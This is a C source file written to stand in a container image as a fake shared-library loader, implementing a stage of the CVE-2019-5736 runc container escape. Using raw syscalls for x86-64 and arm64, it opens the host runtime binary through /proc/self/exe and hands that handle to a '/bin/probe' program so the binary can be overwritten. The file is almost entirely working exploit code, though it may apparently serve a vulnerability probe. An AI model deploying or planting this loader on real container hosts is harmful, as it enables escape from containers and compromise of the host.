// Lies where the loader of shared libraries should lie. Who executes /proc/self/exe in an image, or a script that names
// it, gets the machine's own program with this as its loader: it opens that program and has the attacker write to it
// (CVE-2019-5736). Freestanding, as the loaded program's headers are not its own.
#include <asm/unistd.h>

static long call(long number, long a, long b, long c, long d) {
#if defined(__x86_64__)
  long result;
  register long r10 __asm__("r10") = d;
  __asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(a), "S"(b), "d"(c), "r"(r10) : "rcx", "r11", "memory");
  return result;
#else
  register long x8 __asm__("x8") = number;
  register long x0 __asm__("x0") = a;
  register long x1 __asm__("x1") = b;
  register long x2 __asm__("x2") = c;
  register long x3 __asm__("x3") = d;
  __asm__ volatile("svc 0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2), "r"(x3) : "memory");
  return x0;
#endif
}

__attribute__((noreturn, used)) void attack(long* stack) {
  static const char* arguments[] = {"/bin/probe", "exe", 0};
  enum { kAtFdCwd = -100, kOPath = 010000000 };
  const long count = stack[0];
  call(__NR_openat, kAtFdCwd, (long)"/proc/self/exe", kOPath, 0);
  call(__NR_execve, (long)arguments[0], (long)arguments, (long)(stack + count + 2), 0);
  call(__NR_exit_group, 99, 0, 0, 0);
  __builtin_unreachable();
}

#if defined(__x86_64__)
__asm__(".globl _start\n_start:\n mov %rsp, %rdi\n and $-16, %rsp\n call attack\n");
#else
__asm__(".globl _start\n_start:\n mov x0, sp\n bl attack\n");
#endif
